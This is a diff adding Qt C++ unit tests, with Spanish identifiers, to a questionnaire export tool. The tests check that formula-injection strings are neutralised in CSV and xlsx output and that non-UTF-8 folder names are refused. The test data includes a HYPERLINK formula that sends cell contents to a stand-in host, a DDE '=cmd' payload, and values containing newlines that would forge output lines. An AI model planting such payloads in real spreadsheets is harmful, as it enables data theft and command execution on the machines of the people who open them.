@@ -127,6 +127,78 @@ private slots:
         QCOMPARE(QDir(carpeta("host/DataBase")).entryList(QDir::AllEntries | QDir::NoDotAndDotDot), antes);
     }
 
+    // Texts of the database that a spreadsheet would run as formulas show as texts in every
+    // detail file; the workbook holds them as texts; the line output keeps a line a variable.
+    void textosPeligrosos()
+    {
+        FixturasHost::TOpciones Op;
+        Op.ClavesExtra = {"X1", "X2", "X3", "X4", "-5", "X6"};
+        Op.NombresExtra = {"=HYPERLINK(\"http://x.example/\"&A1,\"clic\")",
+                           "=cmd|' /C calc'!A0",
+                           "+SUMA(1;2)",
+                           "@AHORA()",
+                           "\tTABULADO",
+                           "JUAN\npreg_37\t999\\fin"};
+        QVERIFY(FixturasHost::EscribePrincipal(carpeta("peligrosa"), 30, Op));
+        const QString sDir = carpeta("detalle_peligroso");
+        const TSalida s = Corre({carpeta("peligrosa"), "--usuario", "ADMIN", "--password", "CLAVE1", "--pep",
+                                 "X1", "--detalle", sDir});
+        QVERIFY2(s.nCodigo == 0, qPrintable(s.sError));
+
+        // One line, one variable: the name with a line feed and a tab forges no line.
+        QVERIFY(s.sSalida.contains("PEP\tX6\tJUAN\\npreg_37\\t999\\\\fin\n"));
+        for (const QString& l : s.sSalida.split('\n'))
+            QVERIFY2(l != "preg_37\t999" && !l.startsWith("preg_37\t999"), qPrintable(l));
+        QCOMPARE(Variables(s.sSalida).value("preg_37"), QString("1")); // X1, the one ticked
+
+        // Every field of every file: a text never begins as a formula.
+        int nNombres = 0;
+        for (const QString& sArchivo : QDir(sDir).entryList({"*.csv"}))
+            for (const QStringList& Fila : LeeCsv(sDir + '/' + sArchivo))
+                for (const QString& c : Fila) {
+                    bool bNumero = false;
+                    QString(c).replace(',', '.').toDouble(&bNumero);
+                    QVERIFY2(bNumero || c.isEmpty() || !QString("=+-@\t\r").contains(c[0]),
+                             qPrintable(sArchivo + ": " + c));
+                    nNombres += Op.NombresExtra.contains(c.mid(1)) && c.startsWith('\'') ? 1 : 0;
+                }
+        QVERIFY(nNombres >= 6);
+        const QList<QStringList> Fisicas = LeeCsv(sDir + "/preg_32.csv");
+        bool bClave = false;
+        for (const QStringList& f : Fisicas)
+            if (f.value(0) == "'-5") {
+                bClave = true;
+                QCOMPARE(f.value(1), QString("'\tTABULADO"));
+            }
+        QVERIFY(bClave);
+
+        if (!TLibroDetalle::Disponible() || QStandardPaths::findExecutable("unzip").isEmpty())
+            return;
+        QProcess p;
+        p.start("unzip", {"-p", sDir + "/detalle.xlsx"});
+        QVERIFY(p.waitForFinished());
+        const QByteArray Libro = p.readAllStandardOutput();
+        QVERIFY(Libro.contains("=cmd|&apos; /C calc&apos;!A0") || Libro.contains("=cmd|' /C calc'!A0"));
+        QVERIFY(!Libro.contains("<f>"));
+    }
+
+    // A folder name whose bytes are not UTF-8 (Latin-1 on a Linux disk) is refused with its bytes
+    // shown, not reported as another, missing folder.
+    void nombreNoUtf8()
+    {
+#ifdef Q_OS_WIN
+        QSKIP("Windows pasa los argumentos como texto");
+#else
+        QProcess p;
+        p.start("/bin/sh", {"-c", "exec \"$0\" \"$(printf 'lat\\351n')\" --usuario ADMIN --password X",
+                            QStringLiteral(QRTZ_CUESTIONARIO)});
+        QVERIFY(p.waitForFinished());
+        QCOMPARE(p.exitCode(), 2);
+        const QString sError = QString::fromUtf8(p.readAllStandardError());
+        QVERIFY2(sError.contains("\"lat\\xE9n\"") && sError.contains("UTF-8"), qPrintable(sError));
+#endif
+    }
+
     void json()
     {
         const TSalida s = Corre(login() + QStringList{"--pep", "C01", "--pep", "O'15", "--json"});
